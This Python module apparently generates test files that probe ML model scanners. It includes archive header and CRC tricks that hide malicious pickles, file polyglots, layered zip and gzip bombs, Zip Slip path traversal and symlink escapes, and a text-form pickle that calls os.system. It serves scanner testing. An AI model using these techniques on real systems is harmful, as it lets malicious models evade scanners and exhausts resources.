"""Archives that show one reader a harmless content and another reader the harmful one, or write where they should not."""

# ruff: noqa: E501 - one technique a line, however long; paths in payloads that nothing runs

import gzip
import os
import struct
import tarfile
import zipfile
import zlib
from pathlib import Path

from .kit import EVIL, MARK, link, tarred, technique, torch_zip, zipped
from .machine_tricked import PLAIN

_CDR = "CVE-2025-1944, picklescan: names differ between local header and central directory"
_FLAGS = "CVE-2025-1945, picklescan: flag bits of a zip changed"
_CRC = "CVE-2025-10156, picklescan: a wrong CRC stops the reader"
_APPNOTE = "PKWARE APPNOTE 6.3.10; Fifield 2019, A better zip bomb; zip readers disagree"


@technique(_CDR, "container", "model.pt")
def central_name_differs():
    data = torch_zip(EVIL)
    at = data.rindex(b"archive/data.pkl")
    return data[:at] + b"archive/data.txt" + data[at + 16 :]


def _flag(data: bytes, local: int, central: int) -> bytes:
    out = bytearray(data)
    out[6:8] = struct.pack("<H", local)
    at = data.index(b"PK\x01\x02")
    out[at + 8 : at + 10] = struct.pack("<H", central)
    return bytes(out)


@technique(_FLAGS, "container", "model.pt")
def flag_encrypted_in_the_directory_only():
    return _flag(torch_zip(EVIL), 0, 1)


@technique(_FLAGS, "container", "model.pt")
def flag_patched_data():
    return _flag(torch_zip(EVIL), 0x20, 0x20)


@technique(_FLAGS, "container", "model.pt")
def flag_strong_encryption():
    return _flag(torch_zip(EVIL), 0x41, 0x41)


@technique(_CRC, "container", "model.pt")
def crc_wrong_in_the_local_header():
    data, crc = torch_zip(EVIL), struct.pack("<I", zlib.crc32(EVIL))
    return data.replace(crc, b"\x01\x02\x03\x04", 1)


@technique(_APPNOTE, "container", "model.pt")
def method_unknown():
    data = torch_zip(EVIL)
    return data.replace(
        b"PK\x01\x02\x14\x03\x14\x00\x00\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x00\x00\x63\x00", 1
    )


@technique(_APPNOTE, "container", "model.pt")
def two_directories():
    return torch_zip(EVIL) + torch_zip(PLAIN)


@technique(_APPNOTE, "container", "model.keras")
def zip_behind_a_picture():
    png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\0\0\0\0\x3a\x7e\x9b\x55\0\0\0\0IEND\xaeB`\x82"
    return png + zipped(
        {"config.json": b'{"module": "os", "class_name": "system", "config": {}}', "metadata.json": b"{}"}
    )


@technique(_APPNOTE, "container", "README.md")
def zip_behind_a_text():
    return b"# A model\n\nHarmless.\n" + zipped({"data.pkl": EVIL})


@technique(_APPNOTE, "container", "model.safetensors")
def zip_behind_safetensors():
    header = b'{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}'
    return (
        struct.pack("<Q", len(header))
        + header
        + b"\0\0\0\0"
        + zipped({"config.json": b"{}", "data.pkl": EVIL})
    )


@technique(_APPNOTE, "container", "model.pt")
def name_cut_by_a_nul():
    return torch_zip(PLAIN).replace(b"archive/version", b"archive/data\0pk")


@technique("CWE-409, zip bomb in layers", "bomb", "model.zip")
def bomb_in_layers():
    core = zipped({"0": b"\0" * 50_000_000}, zipfile.ZIP_DEFLATED)
    middle = zipped({f"{n}.zip": core for n in range(40)}, zipfile.ZIP_DEFLATED)
    return zipped({f"{n}.zip": middle for n in range(40)}, zipfile.ZIP_DEFLATED)


@technique("CWE-409, gzip bomb", "bomb", "model.pkl.gz")
def bomb_of_gzip():
    return gzip.compress(gzip.compress(b"\0" * 300_000_000, 9, mtime=0) * 8, 9, mtime=0)


_SLIP = "Snyk 2018, Zip Slip; CVE-2007-4559"


@technique(_SLIP, "path", "model.zip")
def backslashes():
    return zipped({"a\\..\\..\\..\\x.txt": b"x"})


@technique(_SLIP, "path", "model.zip")
def share_of_windows():
    return zipped({"\\\\localhost\\share\\x.txt": b"x"})


@technique(_SLIP, "path", "model.zip")
def up_from_the_middle():
    return zipped({"a/b/../../../x.txt": b"x"})


_TAR = "Python documentation, tarfile: extraction filters (PEP 706) and what they refuse"


@technique(_TAR, "link", "model.nemo")
def link_then_through_it():
    return tarred(link("d", "..", tarfile.SYMTYPE), ("d/x.txt", b"x"))


@technique(_TAR, "link", "model.nemo")
def links_that_climb_by_turns():
    """CVE-2025-4517: each link is fine, together they leave the folder."""
    steps = [link(f"{'d' * 60}/{n}", "../" + "d" * 60, tarfile.SYMTYPE) for n in range(5)]
    return tarred(*steps, link("e", "d" * 60 + "/0/../../../..", tarfile.SYMTYPE), ("e/x", b"x"))


@technique(_TAR, "link", "model.tar")
def fifo_in_a_tar():
    return tarred(link("weights.bin", "", tarfile.FIFOTYPE))


@technique(_TAR, "container", "model.tar")
def twice_in_a_tar():
    return tarred(("model.pkl", PLAIN), ("model.pkl", EVIL))


@technique("GNU tar, sparse files: a member may be far larger than the archive", "bomb", "model.tar")
def sparse_member():
    info = tarfile.TarInfo("weights.bin")
    info.type = tarfile.GNUTYPE_SPARSE
    raw = bytearray(info.tobuf(tarfile.GNU_FORMAT))
    raw[386:398], raw[398:410] = b"00000000000\0", b"00000000000\0"
    raw[483:495] = b"77777777777\0"
    raw[148:156] = b" " * 8
    raw[148:156] = b"%06o\0 " % sum(raw)
    return bytes(raw) + b"\0" * 1024


@technique("7-Zip, 7zFormat.txt: the header may itself be packed or encrypted", "container", "model.7z")
def seven_zip_with_packed_header():
    nxt = b"\x17\x06\x00\x01\x09\x10\x00"
    start = struct.pack("<QQI", 16, len(nxt), zlib.crc32(nxt))
    return (
        b"7z\xbc\xaf\x27\x1c\x00\x04"
        + struct.pack("<I", zlib.crc32(start))
        + start
        + EVIL[:16].ljust(16, b"\0")
        + nxt
    )


@technique("RAR 5 technical note; archives that scanners do not open", "unknown format", "model.rar")
def rar_around_a_pickle():
    return b"Rar!\x1a\x07\x01\x00" + EVIL


@technique("Microsoft cabinet; archives that scanners do not open", "unknown format", "model.cab")
def cabinet_around_a_pickle():
    return b"MSCF\0\0\0\0" + EVIL


@technique("Debian ar(5); archives that scanners do not open", "unknown format", "model.deb")
def ar_around_a_pickle():
    return b"!<arch>\nmodel.pkl       0           0     0     100644  %-10d`\n" % len(EVIL) + EVIL


@technique("cpio newc; archives that scanners do not open", "unknown format", "model.cpio")
def cpio_around_a_pickle():
    return b"070701" + b"0" * 104 + EVIL


_HUB = "Hugging Face Hub: a snapshot folder is made of links, and a repository may hold its own"


@technique(_HUB, "link")
def folder_link_to_outside():
    def write(root: Path) -> None:
        (root / "config.json").write_text("{}")
        (root / "model.safetensors").symlink_to("/etc/hostname")

    return write


@technique(_HUB, "link")
def folder_link_to_itself():
    def write(root: Path) -> None:
        (root / "config.json").write_text("{}")
        (root / "again").symlink_to(".")
        (root / "loop").symlink_to("loop")

    return write


@technique("CVE-2026-34446, ONNX: a hard link is no symbolic link; a fifo hangs whoever reads it", "link")
def folder_fifo():
    return lambda root: os.mkfifo(root / "model.safetensors")


@technique("picklescan, advisories on file extensions: a pickle under another name", "global")
def pickle_without_an_extension_in_a_hidden_folder():
    return {"config.json": b"{}", ".cache/blobs/9f86d081": EVIL}


@technique("JFrog 2025, picklescan: extensions that the scanner does not open", "global")
def pickle_named_as_a_licence():
    return {"config.json": b"{}", "LICENSE": EVIL, "model.safetensors": b"\x02\0\0\0\0\0\0\0{}"}


@technique("Python documentation, pickle: protocol 0 is text", "global")
def pickle_that_reads_as_text():
    return {"config.json": b"{}", "merges.txt": f"cposix\nsystem\n(S'echo {MARK}'\ntR.".encode()}


@technique("Unicode right-to-left override in a file's name (CVE-2021-42574 and its kin)", "global")
def pickle_with_a_reversed_name():
    return {"config.json": b"{}", "model\u202elkp.json": EVIL}
